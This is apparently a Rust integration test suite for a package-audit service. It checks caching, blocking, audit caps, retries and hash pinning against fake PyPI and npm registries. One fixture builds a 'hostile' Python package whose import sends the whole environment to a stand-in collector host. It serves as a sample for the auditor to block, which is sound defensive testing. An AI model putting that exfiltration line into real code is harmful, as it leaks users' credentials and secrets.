//! Submissions from a draft to their end, by workers, against fake ecosystems on loopback that the real clients talk to.

use std::sync::Arc;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use serde_json::Value;
use sigma_analysis::{Analyser, Limits};
use sigma_core::*;
use sigma_ecosystem::manifest::ReadOptions;
use sigma_ecosystem::{EcosystemConfig, Ecosystems};
use sigma_pipeline::*;
use sigma_store::{Database, Draft, JobState, Store, Submission, SubmissionState};
use sigma_testkit::{FakeEcosystem, Misbehaviour, NpmTarball, Wheel, fresh_postgres};
use tempfile::TempDir;
use url::Url;

mod again;
mod code;
mod commands;
mod early;
mod faults;
mod log;
mod operators;
mod outages;

struct Scene {
    eco: FakeEcosystem,
    folder: TempDir,
    database: Database,
    /// How often the ecosystems are asked at once.
    attempts: usize,
}

impl Scene {
    fn new() -> Self {
        let database = fresh_postgres().map_or(Database::Embedded, |url| url.parse().unwrap());
        Self { eco: FakeEcosystem::start(), folder: tempfile::tempdir().unwrap(), database, attempts: 4 }
    }

    async fn hall(&self) -> Hall {
        self.hall_at(Arc::default()).await
    }

    /// A hall whose clock is so many milliseconds off.
    async fn hall_at(&self, offset: Arc<std::sync::atomic::AtomicI64>) -> Hall {
        let url = |text: String| Url::parse(&text).unwrap();
        let root = self.folder.path().join("store");
        let store = Store::open(&root, &self.database).await.unwrap();
        let ecosystems = Ecosystems::new(EcosystemConfig {
            pypi_index: url(self.eco.pypi.index_url()),
            pypi_json: url(self.eco.pypi.json_url()),
            npm_registry: url(self.eco.npm.registry_url()),
            first_pause: Duration::from_millis(5),
            read_timeout: Duration::from_secs(5),
            attempts: self.attempts,
            ..EcosystemConfig::official(root.join("cache"))
        });
        let clock = Arc::new(move || {
            let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap();
            let now = i64::try_from(now.as_millis()).unwrap();
            Timestamp::from_millis(now + offset.load(std::sync::atomic::Ordering::SeqCst))
        });
        let analyser = Analyser::new(Limits::default());
        Hall::new(ecosystems.unwrap(), store, analyser, clock, HallConfig::default()).unwrap()
    }

    async fn draft(&self, hall: &Hall, owner: &str, requirements: &str) -> Draft {
        self.draft_of(hall, owner, "requirements.txt", requirements, |project| project).await
    }

    async fn draft_of(
        &self,
        hall: &Hall,
        owner: &str,
        name: &str,
        text: &str,
        change: impl Fn(Project) -> Project,
    ) -> Draft {
        let mut read = ReadOptions::default();
        read.pypi_indexes.push(Url::parse(&self.eco.pypi.index_url()).unwrap());
        read.npm_registries.push(Url::parse(&self.eco.npm.registry_url()).unwrap());
        let files = ProjectFiles::from([(name.to_owned(), text.to_owned())]);
        let project = change(Project::read(&files, Target::default(), &read).unwrap());
        let draft = Draft {
            id: format!("drf_{owner}_{}", Sha256::of(text.as_bytes())),
            owner: owner.to_owned(),
            project: serde_json::to_vec(&project).unwrap(),
            created_at: Timestamp::from_millis(1),
        };
        hall.store().add_draft(&draft).await.unwrap();
        draft
    }

    fn downloads(&self) -> usize {
        self.eco.pypi.downloads() + self.eco.npm.downloads()
    }
}

/// Short pauses, so that what fails fails soon.
fn config() -> WorkerConfig {
    WorkerConfig { first_pause_millis: 1, poll_millis: 10, ..WorkerConfig::default() }
}

async fn work(hall: &Hall) {
    Worker::new(hall.clone(), "test", config()).run_until_idle(std::future::pending()).await;
}

async fn submit(hall: &Hall, draft: &Draft, key: &str) -> Submission {
    hall.submit(draft, key, 1_000_000).await.unwrap()
}

/// The submission as it stands, one line each event, and a line for every package.
async fn story(hall: &Hall, submission: &Submission) -> String {
    let now = hall.store().submission(&submission.id).await.unwrap().unwrap();
    let mut lines = Vec::new();
    for (index, event) in hall.store().events(&now.id, 0, 10_000).await.unwrap().iter().enumerate() {
        assert_eq!(event.seq, index as u64 + 1);
        let mut data: Value = serde_json::from_slice(&event.data).unwrap();
        for unstable in ["draftId", "certificateId"] {
            data.as_object_mut().unwrap().remove(unstable);
        }
        lines.push(format!("{} {data}", event.kind));
    }
    // Audits end in any order.
    let (first, last) = (2.min(lines.len()), lines.len().saturating_sub(1));
    if first < last {
        lines[first..last].sort();
    }
    if now.state.is_final() {
        let result: Value = serde_json::from_slice(&now.result).unwrap();
        for entry in result["packageAnalysis"]["packages"].as_array().into_iter().flatten() {
            let text = |name: &str| entry[name].as_str().unwrap_or("-").to_owned();
            lines.push(format!("{} {} {}", text("packageName"), text("dependencyType"), text("status")));
        }
        for advisory in result["advisories"].as_array().into_iter().flatten() {
            lines.push(format!("advisory: {}", advisory.as_str().unwrap()));
        }
        let summary = &result["packageAnalysis"]["summary"];
        lines.push(format!("saved {} USD, cost {} USD", summary["savingsUsd"], summary["uncachedCostUsd"]));
    }
    lines.join("\n")
}

fn pure(name: &str, version: &str) -> Wheel {
    Wheel::new(name, version).file(&format!("{}/__init__.py", name.replace('-', "_")), "VALUE = 1\n")
}

/// A package that the council blocks: it sends the environment away when it is imported.
fn hostile(name: &str, version: &str) -> Wheel {
    let source = "import os, requests\nrequests.post('https://collector.example.org/x', data=str(dict(os.environ)))\n";
    Wheel::new(name, version).file(&format!("{}/__init__.py", name.replace('-', "_")), source)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_submission_is_audited_and_the_next_one_pays_nothing() {
    let scene = Scene::new();
    scene.eco.pypi.add(pure("leaf", "1.2").build());
    scene.eco.pypi.add(pure("demo", "2.0").requires("leaf>=1").build());
    let hall = scene.hall().await;
    let ann = scene.draft(&hall, "ann", "demo>=1\n").await;
    let first = submit(&hall, &ann, "k1").await;
    assert_eq!(submit(&hall, &ann, "k1").await.id, first.id, "the same key is the same submission");
    work(&hall).await;
    insta::assert_snapshot!(story(&hall, &first).await, @r#"
    queued {}
    planned {"certifiedFromCache":0,"packages":2,"toAudit":2}
    package {"package":"pypi:demo@2.0","securityLevel":"CLEAR","status":"audited"}
    package {"package":"pypi:leaf@1.2","securityLevel":"CLEAR","status":"audited"}
    ended {"reasons":[],"state":"cleared"}
    demo DIRECT AUDITED_THIS_SUBMISSION
    leaf TRANSITIVE_L1 AUDITED_THIS_SUBMISSION
    saved 0 USD, cost 4 USD
    "#);
    let downloads = scene.downloads();

    let bob = scene.draft(&hall, "bob", "demo>=1\n").await;
    let second = submit(&hall, &bob, "k1").await;
    assert_ne!(second.id, first.id);
    work(&hall).await;
    insta::assert_snapshot!(story(&hall, &second).await, @r#"
    queued {}
    planned {"certifiedFromCache":2,"packages":2,"toAudit":0}
    ended {"reasons":[],"state":"cleared"}
    demo DIRECT CERTIFIED_FROM_CACHE
    leaf TRANSITIVE_L1 CERTIFIED_FROM_CACHE
    saved 4 USD, cost 0 USD
    "#);
    assert_eq!(scene.downloads(), downloads);

    let other = scene.draft(&hall, "ann", "leaf>=1\n").await;
    let error = hall.submit(&other, "k1", 1_000_000).await.unwrap_err();
    assert!(matches!(error, SubmitError::KeyReused(_)), "{error}");
    let error = hall.submit(&other, "k2", 0).await;
    assert!(error.is_ok(), "nothing is open");
    let error = hall.submit(&other, "k3", 0).await.unwrap_err();
    assert!(matches!(error, SubmitError::Busy(0)), "{error}");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_near_stops_a_submission_and_what_is_deep_is_told() {
    let scene = Scene::new();
    scene.eco.pypi.add(hostile("bad", "1.0").build());
    scene.eco.pypi.add(pure("l1", "1.0").requires("bad").build());
    scene.eco.pypi.add(pure("direct", "1.0").requires("l1").build());
    let hall = scene.hall().await;
    let end = async |requirements: &str| {
        let draft = scene.draft(&hall, "ann", requirements).await;
        let submission = submit(&hall, &draft, requirements).await;
        work(&hall).await;
        let now = hall.store().submission(&submission.id).await.unwrap().unwrap();
        let result: Value = serde_json::from_slice(&now.result).unwrap();
        (now.state, result["reasons"].to_string(), result["advisories"].to_string())
    };
    assert_eq!(
        end("direct==1.0\n").await,
        (SubmissionState::Cleared, "[]".to_owned(), r#"["pypi:bad@1.0 (TRANSITIVE_L2) is BLOCKED"]"#.to_owned(),)
    );
    assert_eq!(
        end("l1==1.0\n").await,
        (SubmissionState::Stopped, r#"["pypi:bad@1.0 (TRANSITIVE_L1) is BLOCKED"]"#.to_owned(), "[]".to_owned(),)
    );
    assert_eq!(end("bad==1.0\n").await.0, SubmissionState::Stopped);
    let (state, reasons, _) = end("direct==1.0\ngit+https://github.com/a/b\n").await;
    assert_eq!(state, SubmissionState::Stopped, "{reasons}");
    let (state, reasons, _) = end("direct==1.0\nghost==1.0\n").await;
    assert_eq!(state, SubmissionState::Held, "{reasons}");
    assert_eq!(end("# nothing\n").await.0, SubmissionState::Held);
}

#[tokio::test(flavor = "multi_thread")]
async fn beyond_the_cap_is_disclosed() {
    let scene = Scene::new();
    for name in ["a", "b", "c"] {
        scene.eco.pypi.add(pure(name, "1.0").build());
    }
    scene.eco.pypi.add(pure("direct", "1.0").requires("a").requires("b").requires("c").build());
    let hall = scene.hall().await;
    let capped = |project| Project { cap: 1, ..project };
    let draft = scene.draft_of(&hall, "ann", "requirements.txt", "direct==1.0\n", capped).await;
    let submission = submit(&hall, &draft, "k").await;
    work(&hall).await;
    insta::assert_snapshot!(story(&hall, &submission).await, @r#"
    queued {}
    planned {"certifiedFromCache":0,"packages":4,"toAudit":2}
    package {"package":"pypi:a@1.0","securityLevel":"CLEAR","status":"audited"}
    package {"package":"pypi:direct@1.0","securityLevel":"CLEAR","status":"audited"}
    ended {"reasons":[],"state":"cleared"}
    direct DIRECT AUDITED_THIS_SUBMISSION
    a TRANSITIVE_L1 AUDITED_THIS_SUBMISSION
    b TRANSITIVE_L1 UNCERTIFIED
    c TRANSITIVE_L1 UNCERTIFIED
    advisory: 2 transitive package(s) lie beyond the audit cap of 1 and are uncertified
    saved 0 USD, cost 4 USD
    "#);
}

#[tokio::test(flavor = "multi_thread")]
async fn an_ecosystem_that_fails_is_asked_again_and_then_told_apart_from_nothing_found() {
    let scene = Scene::new();
    let built = scene.eco.pypi.add(pure("demo", "2.0").build());
    let path = Url::parse(&built.url).unwrap().path().to_owned();
    let hall = scene.hall().await;
    let draft = scene.draft(&hall, "ann", "demo==2.0\n").await;
    // More often than one run asks.
    scene.eco.pypi.server.misbehave(&path, Misbehaviour::Status(503)).times(2 * scene.attempts);
    let first = submit(&hall, &draft, "k1").await;
    work(&hall).await;
    assert_eq!(hall.store().submission(&first.id).await.unwrap().unwrap().state, SubmissionState::Cleared);

    let built = scene.eco.pypi.add(pure("gone", "2.0").build());
    let path = Url::parse(&built.url).unwrap().path().to_owned();
    scene.eco.pypi.server.misbehave(&path, Misbehaviour::Status(404));
    let draft = scene.draft(&hall, "ann", "gone==2.0\n").await;
    let second = submit(&hall, &draft, "k2").await;
    work(&hall).await;
    let told = story(&hall, &second).await;
    assert!(told.contains(r#""status":"unavailable""#) && told.contains(r#""state":"held""#), "{told}");
    assert!(hall.store().jobs(JobState::Dead, None, 9).await.unwrap().is_empty(), "no matter for an operator");

    scene.eco.pypi.server.behave();
    let third = submit(&hall, &draft, "k3").await;
    work(&hall).await;
    assert_eq!(hall.store().submission(&third.id).await.unwrap().unwrap().state, SubmissionState::Cleared);

    // Nothing can be resolved, for longer than is waited: the submission ends, and an operator may run its job again.
    scene.eco.pypi.server.misbehave_everywhere(Misbehaviour::Status(500));
    let draft = scene.draft(&hall, "ann", "other==2.0\n").await;
    let fourth = submit(&hall, &draft, "k4").await;
    let impatient = WorkerConfig { outage_hours: 0, ..config() };
    Worker::new(hall.clone(), "test", impatient).run_until_idle(std::future::pending()).await;
    let now = hall.store().submission(&fourth.id).await.unwrap().unwrap();
    let dead = hall.store().jobs(JobState::Dead, None, 9).await.unwrap();
    assert_eq!((now.state, dead.len(), &dead[0].id), (SubmissionState::Failed, 1, &fourth.job));
    scene.eco.pypi.server.behave();
    scene.eco.pypi.add(pure("other", "2.0").build());
    hall.store().retry_job(&fourth.job, "ann", "it is back", Timestamp::from_millis(1)).await.unwrap();
    work(&hall).await;
    assert_eq!(hall.store().submission(&fourth.id).await.unwrap().unwrap().state, SubmissionState::Cleared);
}

#[tokio::test(flavor = "multi_thread")]
async fn wrong_bytes_and_wrong_pins_stop_and_concern_nobody_else() {
    let scene = Scene::new();
    let built = scene.eco.npm.add(NpmTarball::new("tool", "1.0.0").file("index.js", "module.exports = 1;\n").build());
    let hall = scene.hall().await;
    let path = Url::parse(&built.url).unwrap().path().to_owned();
    scene.eco.npm.server.misbehave(&path, Misbehaviour::WrongBytes);
    let draft = scene.draft_of(&hall, "ann", "package.json", r#"{"dependencies": {"tool": "1.0.0"}}"#, |p| p).await;
    let first = submit(&hall, &draft, "k1").await;
    work(&hall).await;
    assert_eq!(hall.store().submission(&first.id).await.unwrap().unwrap().state, SubmissionState::Stopped);

    scene.eco.pypi.add(pure("demo", "2.0").build());
    let pinned = format!("demo==2.0 --hash=sha256:{}\n", "0".repeat(64));
    let (wrong, right) = (scene.draft(&hall, "ann", &pinned).await, scene.draft(&hall, "bob", "demo==2.0\n").await);
    let (wrong, right) = (submit(&hall, &wrong, "k2").await, submit(&hall, &right, "k2").await);
    work(&hall).await;
    assert_eq!(hall.store().submission(&wrong.id).await.unwrap().unwrap().state, SubmissionState::Stopped);
    assert_eq!(hall.store().submission(&right.id).await.unwrap().unwrap().state, SubmissionState::Cleared);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_thousand_requests_at_once_make_one_audit() {
    let scene = Scene::new();
    scene.eco.pypi.add(pure("demo", "2.0").build());
    let hall = scene.hall().await;
    let mut drafts = Vec::new();
    for owner in 0..20 {
        drafts.push(scene.draft(&hall, &format!("owner{owner}"), "demo==2.0\n").await);
    }
    let asking: Vec<_> = (0..1000)
        .map(|index| {
            let (hall, draft) = (hall.clone(), drafts[index % 20].clone());
            tokio::spawn(async move { submit(&hall, &draft, "k").await.id })
        })
        .collect();
    let workers: Vec<_> = (0..2)
        .map(|_| {
            let hall = hall.clone();
            tokio::spawn(async move { Worker::new(hall, "w", config()).run(std::future::pending()).await })
        })
        .collect();
    let mut ids = std::collections::BTreeSet::new();
    for one in asking {
        ids.insert(one.await.unwrap());
    }
    assert_eq!(ids.len(), 20);
    work(&hall).await;
    for worker in workers {
        worker.abort();
    }
    assert_eq!(scene.downloads(), 1);
    let mut audited = 0;
    for id in ids {
        let now = hall.store().submission(&id).await.unwrap().unwrap();
        assert_eq!(now.state, SubmissionState::Cleared);
        audited += usize::from(String::from_utf8(now.result).unwrap().contains("AUDITED_THIS_SUBMISSION"));
    }
    assert_eq!(audited, 1, "one had it made, the others found it");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_worker_that_is_asked_to_end_gives_back_what_it_cannot_finish() {
    let scene = Scene::new();
    let built = scene.eco.pypi.add(pure("demo", "2.0").build());
    let path = Url::parse(&built.url).unwrap().path().to_owned();
    scene.eco.pypi.server.misbehave(&path, Misbehaviour::Silent);
    let hall = scene.hall().await;
    let draft = scene.draft(&hall, "ann", "demo==2.0\n").await;
    let submission = submit(&hall, &draft, "k").await;
    let stop = async {
        while scene.downloads() == 0 {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    };
    let impatient = WorkerConfig { grace_seconds: 0, ..config() };
    Worker::new(hall.clone(), "first", impatient).run(stop).await;
    let pending = hall.store().jobs(JobState::Pending, None, 9).await.unwrap();
    assert!(pending.iter().all(|job| job.attempts == 0 && job.lease_owner.is_empty()), "{pending:?}");
    assert_eq!((pending.len(), hall.store().jobs(JobState::Leased, None, 9).await.unwrap().len()), (2, 0));

    scene.eco.pypi.server.behave();
    work(&hall).await;
    assert_eq!(hall.store().submission(&submission.id).await.unwrap().unwrap().state, SubmissionState::Cleared);
}
